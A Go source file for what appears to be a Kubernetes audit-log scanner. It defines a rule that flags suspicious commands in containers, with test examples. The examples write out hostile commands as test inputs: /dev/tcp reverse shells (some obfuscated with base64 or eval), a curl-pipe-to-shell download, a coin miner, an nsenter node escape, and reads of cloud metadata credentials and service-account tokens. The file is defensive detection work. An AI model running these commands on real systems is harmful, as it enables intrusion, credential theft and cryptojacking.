package detections

import (
	"github.com/merlonsec/merlon/internal/finding"
	"github.com/merlonsec/merlon/internal/lang"
	"github.com/merlonsec/merlon/internal/redact"
	"github.com/merlonsec/merlon/internal/rule"
)

// SuspiciousCommand finds commands in containers that attackers run and others seldom do (see suspicions). What is typed
// into a shell is not in the audit log: only the command that began it.
var SuspiciousCommand = rule.Detection{
	Type:     "Execution:Kubernetes/SuspiciousCommand",
	Origin:   rule.Ours,
	Severity: finding.SeverityHigh,
	Grade: func(a *rule.Action) finding.Severity {
		if s := suspicionOf(a.Arguments()); s != nil {
			return s.severity
		}
		return finding.SeverityMedium
	},
	References: []rule.Reference{
		attack("T1059.004"), attack("T1609"), attack("T1552.005"), attack("T1105"),
		threatMatrix("MS-TA9007", "bash%20or%20cmd%20inside%20container"),
	},
	Title: lang.Text{
		EN: "Suspicious command run in a container",
		ES: "Comando sospechoso ejecutado en un contenedor",
		PT: "Comando suspeito executado em um contêiner",
	},
	Why: lang.Text{
		EN: "The command opens a reverse shell, mines coins, breaks out to the node, asks the metadata service for cloud credentials, reads the service account's token, or runs what it has just downloaded. Hardly any of that is part of looking for a fault.",
		ES: "El comando abre una shell inversa, mina criptomonedas, escapa al nodo, pide credenciales de la nube al servicio de metadatos, lee el token de la cuenta de servicio o ejecuta lo que acaba de descargar. Casi nada de eso hace falta para buscar un fallo.",
		PT: "O comando abre um shell reverso, minera criptomoedas, escapa para o nó, pede credenciais da nuvem ao serviço de metadados, lê o token da conta de serviço ou executa o que acabou de baixar. Quase nada disso é preciso para achar uma falha.",
	},
	Fix: fix(lang.Text{
		EN: "Stop the user and the pod, then find out what was run\n\nAct at once: what such a command begins goes on after the session ends. Then run merlon detect with --keep-commands on the log to see the whole command.",
		ES: "Detenga al usuario y al pod; después averigüe qué se ejecutó\n\nActúe de inmediato: lo que un comando así empieza continúa tras la sesión. Después ejecute merlon detect con --keep-commands sobre el registro para ver el comando completo.",
		PT: "Detenha o usuário e o pod; depois descubra o que foi executado\n\nAja de imediato: o que um comando assim começa continua após a sessão. Depois execute merlon detect com --keep-commands sobre o registro para ver o comando inteiro.",
	}, `
merlon detect --keep-commands AUDIT.log
`, shutOut(), isolatePod(), replaceWorkload()),
	On: []rule.Selector{
		{Verbs: []string{"get", "create"}, Resources: []string{"pods/exec"}},
		{Resources: []string{"nodes/proxy"}}, // The kubelet runs commands too.
	},
	Where: []rule.EventCondition{
		succeeded(),
		runsCommand("suspicious-command", func(args []string) bool { return suspicionOf(args) != nil }),
	},
	About: []rule.EventField{rule.FieldUser, rule.FieldNamespace, rule.FieldName},
	Examples: []rule.EventExample{
		{
			Name:  "a reverse shell",
			Input: execOf("get", 101, "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
			Want:  finding.Present,
			Path:  "$.requestURI",
		},
		{
			Name:  "a miner",
			Input: execOf("create", 101, "/tmp/xmrig", "-o", "pool.example:3333"),
			Want:  finding.Present,
		},
		{
			Name:  "a way out to the node",
			Input: execOf("get", 101, "nsenter", "-t", "1", "-m", "-u", "sh"),
			Want:  finding.Present,
		},
		{
			Name:  "a question to the metadata service",
			Input: execOf("get", 101, "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
			Want:  finding.Present,
		},
		{
			Name:  "a question to the metadata service, by the kubelet's API",
			Input: nodeProxy(record{Verb: "create"}, "run/shop/web-0/main?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
			Want:  finding.Present,
		},
		{
			Name:     "the token of the service account",
			Input:    execOf("get", 101, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
			Want:     finding.Present,
			Severity: graded(finding.SeverityMedium),
		},
		{
			Name:     "a script run as it is downloaded",
			Input:    execOf("get", 101, "sh", "-c", "curl -s https://198.51.100.7/i.sh | sh"),
			Want:     finding.Present,
			Severity: graded(finding.SeverityMedium),
		},
		{
			Name:  "a question to the metadata service, by the kubelet's API, its path written in another way",
			Input: nodeProxy(record{Verb: "create"}, "/%72un/shop/web-0/main?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
			Want:  finding.Present,
		},
		{
			Name:     "a command packed in base64",
			Input:    execOf("get", 101, "bash", "-c", "{echo,aWQK}|{base64,-d}|{bash,-i}"),
			Want:     finding.Present,
			Severity: graded(finding.SeverityMedium),
		},
		{
			Name:  "a reverse shell packed in base64",
			Input: execOf("get", 101, "sh", "-c", "echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx|base64${IFS}-d|/bin/sh"),
			Want:  finding.Present,
		},
		{
			Name:  "a reverse shell that calls itself a token, so that it is masked",
			Input: execOf("get", 101, "bash", "-c", `TOKEN='bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'; eval "$TOKEN"`),
			Want:  finding.Present,
		},
		{
			Name:   "a shell",
			Input:  execOf("get", 101, "bash"),
			Want:   finding.Absent,
			Misses: "suspicious-command",
		},
		{
			Name:   "a request that was not allowed",
			Input:  execOf("get", 403, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
			Want:   finding.Absent,
			Misses: "succeeded",
		},
		{
			Name:  "a record without the arguments",
			Input: execOf("get", 101, "cat", redact.Plain),
			Want:  finding.Unknown,
		},
	},
}
